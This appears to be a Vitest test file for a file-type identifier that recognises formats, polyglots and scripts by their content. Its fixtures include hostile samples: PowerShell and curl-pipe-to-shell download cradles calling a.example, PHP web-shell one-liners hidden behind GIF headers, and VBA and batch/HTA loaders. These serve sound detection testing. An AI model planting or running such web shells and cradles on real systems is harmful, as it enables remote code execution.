import { readdirSync, readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { compoundByHand } from '../../../../test/fixtures/by-hand/compound-by-hand.ts'
import { discByHand } from '../../../../test/fixtures/by-hand/disc-by-hand.ts'
import { pdfOf } from '../../../../test/fixtures/by-hand/pdf-by-hand.ts'
import { tarByHand } from '../../../../test/fixtures/by-hand/tar-by-hand.ts'
import { windowsProgram } from '../../../../test/fixtures/files/identity/program-by-hand.ts'
import { strictSource, wholeNumbers } from '../../../../test/fixtures/files/identity/seeded-files.ts'
import { roundsOf, seedOf } from '../../../../test/rounds.ts'
import { zipPackage } from '../archive/write-zip.ts'
import { identifyTypes } from './identify-types.ts'

const typesOf = (content: Uint8Array | string, name = '') =>
  identifyTypes(strictSource(typeof content === 'string' ? Buffer.from(content, 'latin1') : content), name)
const kindsOf = (content: Uint8Array | string, name = '') => typesOf(content, name).map(({ kind }) => kind)

const zipOf = (...names: string[]) => zipPackage(new Map(names.map((name) => [name, '<a/>'])))
const page = '<html><script>alert(1)</script></html>'
const pdf = pdfOf(['<< /Type /Catalog >>'])
const gif =
  'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'
const jpeg = '\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xdb\0\xff\xd9'
const png = '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde\0\0\0\0IEND\xaeB`\x82'
const cpio = `070701${'0'.repeat(104)}TRAILER!!!\0\0\0\0`
const lnk = `L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(56)}`
const seeded = (length: number) => Array.from({ length }, wholeNumbers(7)).map((each) => each & 0xff)
const bytesOf = (...pieces: (Uint8Array | string)[]) =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece)))

describe('a file has the types that its content has, the executed one first', () => {
  test.each<[string, Uint8Array | string, string[]]>([
    ['nothing', '', ['empty']],
    ['a Windows program', windowsProgram(), ['pe']],
    ['a program with an archive behind it', bytesOf(windowsProgram(), zipOf('a.txt')), ['pe', 'zip']],
    [
      'a program with a 7-Zip archive behind it',
      bytesOf(windowsProgram(), ";!@Install@!UTF-8!7z\xbc\xaf'\x1c"),
      ['pe', '7z'],
    ],
    [
      'an installer that is a Java program',
      bytesOf(
        compoundByHand({ '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824': new Uint8Array(9) }),
        zipOf('META-INF/MANIFEST.MF'),
      ),
      ['msi', 'jar', 'ole2', 'zip'],
    ],
    ['a disc image of UDF', bytesOf(new Uint8Array(0x8001), 'BEA01\x01', new Uint8Array(600)), ['iso']],
    ['a rich text document that Word alone takes for one', '{\\rt\\ansi a}', ['rtf']],
    ['the same with bytes of no text', '{\\rt\x01\x02\0\0\0\0\x03\x04\x05\0\0', ['rtf']],
    [
      'a disk image of macOS',
      bytesOf('\x78\x9c\0\0\x01', new Uint8Array(700), 'koly\0\0\0\x04', new Uint8Array(504)),
      ['binary'],
    ],
    [
      'a program with an HTML application behind it',
      bytesOf(windowsProgram(), '\0\0<html><script language="VBScript">MsgBox 1</script>'),
      ['pe', 'html'],
    ],
    [
      'a program that has a page in it',
      windowsProgram(bytesOf('<script language="VBScript">', new Uint8Array(484))),
      ['pe'],
    ],
    [
      'an installer with an HTML application behind it',
      bytesOf(
        compoundByHand({ '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824': new Uint8Array(9) }),
        '<hta:application id=a>',
      ),
      ['msi', 'html', 'ole2'],
    ],
    ['a DOS program', bytesOf('MZ', '\0'.repeat(100)), ['dos']],
    ['an ELF program', `\x7fELF\x02\x01\x01${'\0'.repeat(57)}`, ['elf']],
    ['an ELF program that holds a page', `\x7fELF\x02\x01\x01${'\0'.repeat(57)}${page}`, ['elf']],
    ['a Mach-O program', `\xcf\xfa\xed\xfe\x07\0\0\x01${'\0'.repeat(24)}`, ['mach-o']],
    ['a Mach-O file of two programs', `\xca\xfe\xba\xbe\0\0\0\x02${'\0'.repeat(40)}`, ['mach-o-fat']],
    ['a Java class', `\xca\xfe\xba\xbe\0\0\0\x41${'\0'.repeat(40)}`, ['java-class']],
    ['a DEX program', `dex\n035\0${'\0'.repeat(100)}`, ['dex']],
    ['a DEX program of version 40', `dex\n040\0${'\0'.repeat(100)}`, ['dex']],
    ['WebAssembly', '\0asm\x01\0\0\0', ['wasm']],
    ['a PDF document', pdf, ['pdf']],
    ['a PDF document behind junk', bytesOf('\n\0\x01junk\x02'.repeat(20), pdf), ['pdf']],
    ['a picture with a PDF document in its first kilobyte', bytesOf(jpeg, pdf), ['pdf', 'picture']],
    ['a picture with an archive behind it', bytesOf(png, zipOf('a.js')), ['picture', 'zip']],
    [
      'a picture that is a script',
      bytesOf('GIF89a/*', '\0'.repeat(20), '*/=1;alert(1)'),
      ['javascript', 'picture'],
    ],
    ['a picture with PHP in it', bytesOf(gif, '<?php system($_GET[1]); ?>'), ['php', 'picture']],
    [
      'a picture with an HTML application in it',
      bytesOf(jpeg, '<hta:application id=a>'),
      ['html', 'picture'],
    ],
    ['a shortcut with a page behind it', bytesOf(lnk, page), ['lnk', 'html']],
    ['a GIF', gif, ['picture']],
    ['a script behind the signature of a GIF', 'GIF89a<?php system($_GET[1]); ?>', ['php', 'picture']],
    ['bytes without a pattern', bytesOf(new Uint8Array(seeded(4096))), ['binary']],
    ['a word before such bytes', bytesOf('PAYLOAD', new Uint8Array(seeded(4096))), ['binary']],
    ['a script before such bytes', bytesOf('<?php eval(1); ?>\n', new Uint8Array(seeded(300))), ['php']],
    [
      'a shell script with an archive behind it',
      bytesOf('#!/bin/sh\ntail -n +3 $0 | tar x\nexit\n', new Uint8Array(seeded(900))),
      ['shell'],
    ],
    ['a text in a code page', Buffer.from('Gr\xfc\xdfe aus M\xfcnchen\r\n'.repeat(20), 'latin1'), ['text']],
    ['a Word document', zipOf('[Content_Types].xml', 'word/document.xml'), ['ooxml']],
    ['a Java archive', zipOf('META-INF/MANIFEST.MF', 'A.class'), ['jar', 'zip']],
    ['a Java archive without a manifest', zipOf('META-INF/', 'a/A.class'), ['jar', 'zip']],
    [
      'an Android program',
      zipOf('AndroidManifest.xml', 'classes.dex', 'META-INF/MANIFEST.MF'),
      ['apk', 'zip'],
    ],
    ['a zip archive', zipOf('a.txt'), ['zip']],
    ['a zip archive with the text of a PDF document in it', zipOf('a.pdf'), ['zip']],
    [
      'an Outlook message',
      compoundByHand({ '__properties_version1.0': new Uint8Array(40) }),
      ['outlook-message', 'ole2'],
    ],
    ['an old Word document', compoundByHand({ WordDocument: new Uint8Array(5000) }), ['ole2']],
    [
      'an installer',
      compoundByHand({ '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824': new Uint8Array(9) }),
      ['msi', 'ole2'],
    ],
    [
      'OneNote',
      `\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3${'\0'.repeat(90)}`,
      ['onenote'],
    ],
    ['RTF', '{\\rtf1 a}', ['rtf']],
    ['a tar archive', tarByHand([{ name: 'a', content: Buffer.from('x') }]), ['tar']],
    ['a disc image', discByHand(), ['iso']],
    ['a cpio archive', cpio, ['cpio']],
    ['a squashfs file system', `hsqs\x05\0\0\0${'\0'.repeat(90)}`, ['squashfs']],
    [
      'a Debian package',
      '!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n\0\x01',
      ['ar'],
    ],
    ['an RPM package', `\xed\xab\xee\xdb\x03\0\0\0${'\0'.repeat(90)}`, ['rpm']],
    ['pcap', `\xd4\xc3\xb2\xa1\x02\0\x04\0${'\0'.repeat(16)}`, ['pcap']],
    ['pcap of nanoseconds, the other byte order', `\xa1\xb2\x3c\x4d\0\x02\0\x04${'\0'.repeat(16)}`, ['pcap']],
    ['pcapng', `\x0a\x0d\x0d\x0a\x1c\0\0\0\x4d\x3c\x2b\x1a${'\0'.repeat(16)}`, ['pcapng']],
    ['zlib-like noise', '\x03\x9c\xff\x01\x92\0\0\x11\x88\x99\xfe\x05', ['binary']],
  ])('%s', (_, content, kinds) => {
    expect(kindsOf(content)).toEqual(kinds)
  })
})

describe('a text is what its words make it, and its name decides only where they do not', () => {
  const powershell = '$client = New-Object Net.WebClient\nIEX $client.DownloadString("http://a.example/x")\n'
  const vba =
    'Attribute VB_Name = "M"\nSub AutoOpen()\nDim a\nSet a = CreateObject("WScript.Shell")\nEnd Sub\n'
  const script = 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");\n'
  const batch = '@echo off\r\nset a=1\r\ngoto :end\r\n:end\r\ndel %TEMP%\\x > nul\r\n'
  test.each<[string, string, string, string[]]>([
    ['a first line', 'a.txt', '#!/bin/sh\nls\n', ['shell']],
    ['env with options', '', '#!/usr/bin/env -S python3 -u\nx\n', ['python']],
    ['env with a variable', '', '#! /usr/bin/env A=1 perl\nx\n', ['perl']],
    [
      'shell words',
      'a.txt',
      'for i in a b; do\n  echo $i\ndone\ncurl -s http://a.example | sh\nchmod +x /tmp/a\n',
      ['shell'],
    ],
    ['PowerShell', 'notes.txt', powershell, ['powershell']],
    ['PowerShell without a name', '', powershell, ['powershell']],
    ['VBA', 'Module1', vba, ['vbscript']],
    ['JScript', 'a', script, ['javascript']],
    [
      'batch and JScript',
      'a.cmd',
      '@if (@X)==(@Y) @end /*\n@echo off\ncscript //e:jscript "%~f0"\n*/\nWScript.Echo(1);\n',
      ['batch', 'javascript'],
    ],
    [
      'batch and HTML application',
      'a.bat',
      '<!-- :: batch\r\n@echo off\r\nmshta "%~f0"\r\n--><html><script language="VBScript">MsgBox 1</script></html>',
      ['batch', 'html'],
    ],
    ['batch behind a mark of UTF-16', '', `\xff\xfe${batch}`, ['batch']],
    ['encoded script', 'a.jse', '#@~^AAAAAA==xx==^#~@', ['javascript']],
    ['encoded script without a name', '', '#@~^AAAAAA==xx==^#~@', ['vbscript']],
    ['batch', '', batch, ['batch']],
    [
      'Python',
      '',
      'import os\n\ndef run(a):\n    return os.popen(a)\n\nif __name__ == "__main__":\n    run(1)\n',
      ['python'],
    ],
    ['PHP', 'logo.gif', '<?php eval($_POST["a"]);', ['php']],
    ['AutoIt', '', '#include <File.au3>\nLocal $a = 1\nRunWait("x")\n', ['autoit']],
    ['Perl', '', 'use strict;\nmy $a = shift;\nprint $a =~ /x/;\n', ['perl']],
    ['one word, by its extension', 'a.ps1', 'hello\n', ['powershell']],
    ['one word, by its extension', 'a.vbs', 'hello\n', ['vbscript']],
    ['one word, by its extension', 'a.bat', 'hello\n', ['batch']],
    ['one word', 'a.txt', 'hello\n', ['text']],
    ['prose', '', 'This is a letter of which nobody knows who wrote it, and for whom.\n', ['text']],
    [
      'prose about a script',
      'README',
      'To install it run the program with Set-Location or Get-Item as the manual has it.\nIt needs $HOME and param ($a) to be known by the person who starts it today.\n',
      ['text'],
    ],
    ['C', 'a.c', '#include <stdio.h>\nint main(void) { return 0; }\n', ['text']],
    ['JSON', 'a.txt', '{"a": [1, 2]}', ['text']],
    ['a page', 'a.txt', page, ['html']],
    ['an HTML application', '', '<html><head><hta:application id="a"></head></html>', ['html']],
    ['SVG', '', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', ['svg']],
    ['XML', '', '<?xml version="1.0"?><a><b/></a>', ['xml']],
    [
      'a script file of Windows',
      'a.wsf',
      '<job id="a"><script language="VBScript">MsgBox 1</script></job>',
      ['vbscript', 'xml'],
    ],
    [
      'a scriptlet',
      'a.sct',
      '<?XML version="1.0"?><scriptlet><script language="JScript">a()</script></scriptlet>',
      ['javascript', 'xml'],
    ],
    [
      'a style sheet with a script',
      'a.xsl',
      '<?xml version="1.0"?><stylesheet><ms:script implements-prefix="user" language="JScript">a()</ms:script></stylesheet>',
      ['javascript', 'xml'],
    ],
    [
      'a page that Word saved as one file',
      'a.doc',
      'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n',
      ['message'],
    ],
    ['an internet shortcut', '', '[InternetShortcut]\r\nURL=file://a.example/b.exe\r\n', ['url-shortcut']],
    [
      'a registry file',
      '',
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n',
      ['registry'],
    ],
    ['an old registry file', '', 'REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n', ['registry']],
    ['an appointment', '', 'BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n', ['calendar']],
    ['a contact', '', 'BEGIN:VCARD\r\nFN:A\r\nEND:VCARD\r\n', ['contact']],
    ['a web query', '', 'WEB\r\n1\r\nhttp://a.example/x\r\n', ['iqy']],
    [
      'a library',
      '',
      '<?xml version="1.0"?><libraryDescription xmlns="x"></libraryDescription>',
      ['library-ms'],
    ],
    [
      'a message',
      '',
      'From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nhello',
      ['message'],
    ],
  ])('%s (%s)', (_, name, content, kinds) => {
    expect(kindsOf(content, name)).toEqual(kinds)
  })

  test('a script in UTF-16 is one', () => {
    const wide = Buffer.from(`\ufeff${powershell}`, 'utf16le')
    expect(kindsOf(wide, 'a.txt')).toEqual(['powershell'])
    expect(kindsOf(Buffer.from(`\ufeffWindows Registry Editor Version 5.00\r\n`, 'utf16le'))).toEqual([
      'registry',
    ])
  })
})

test('documents and archives made by office programs and packers are what their makers say', () => {
  const expected: Record<string, string> = {
    odt: 'odf',
    ods: 'odf',
    odp: 'odf',
    docx: 'ooxml',
    xlsx: 'ooxml',
    pptx: 'ooxml',
    rtf: 'rtf',
    pdf: 'pdf',
    doc: 'ole2',
    xls: 'ole2',
    gz: 'gzip',
    bz2: 'bzip2',
    xz: 'xz',
    zst: 'zstd',
    '7z': '7z',
    tar: 'tar',
  }
  let seen = 0
  for (const folder of ['documents', 'archives']) {
    const path = new URL(`../../../../test/fixtures/${folder}/files/`, import.meta.url)
    for (const name of readdirSync(path)) {
      const kind = expected[name.split('.').pop() ?? '']
      // those that a password protects are compound files
      if (kind === undefined || /password|protect|encrypt/.test(name)) continue
      seen++
      expect(`${name} ${kindsOf(readFileSync(new URL(name, path)))[0]}`).toBe(`${name} ${kind}`)
    }
  }
  expect(seen).toBeGreaterThan(80)
})

test('cut and altered files of every kind still have a type', () => {
  const next = wholeNumbers(seedOf(5))
  const samples = [
    bytesOf(windowsProgram(), zipOf('a')),
    zipOf('word/document.xml'),
    bytesOf(jpeg, pdf),
    discByHand(),
    bytesOf(lnk, page),
    Buffer.from(cpio),
    compoundByHand({ Workbook: new Uint8Array(6000) }),
  ]
  for (const sample of samples)
    for (let round = 0; round < roundsOf(60, 3000); round++) {
      const changed = Buffer.from(sample)
      for (let edits = next() % 8; edits >= 0; edits--) changed[next() % changed.length] = next() & 0xff
      const cut = changed.subarray(0, next() % (changed.length + 1))
      expect(typesOf(round % 2 === 0 ? changed : cut).length).toBeGreaterThan(0)
    }
})

test('runs of anything are identified in time that grows with the file', () => {
  const runs = [
    '<',
    '<script ',
    '<!-- x --> ',
    '(',
    '[',
    '{"a":',
    '$a = $a',
    'function a(b,',
    'From: a@b\n',
    'a|b\n',
    '\r\n',
    ' ',
    '\xff',
    'PK\x05\x06',
    '%PDF-1\n1 0 obj',
    'BEGIN:VCARD ',
  ]
  for (const begin of ['', '<', '{', 'GIF89a', 'MZ', '#!/bin/sh\n', '@echo off\n'])
    for (const run of runs) {
      const start = performance.now()
      typesOf(`${begin}${run.repeat(100_000 / run.length)}`)
      expect(performance.now() - start).toBeLessThan(1000)
    }
})

test('Office documents in XML are XML, and their label says whose', () => {
  const text = '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'
  expect(typesOf(text, 'a.doc')).toEqual([{ kind: 'xml', mime: 'text/xml', label: 'Word document in XML' }])
})
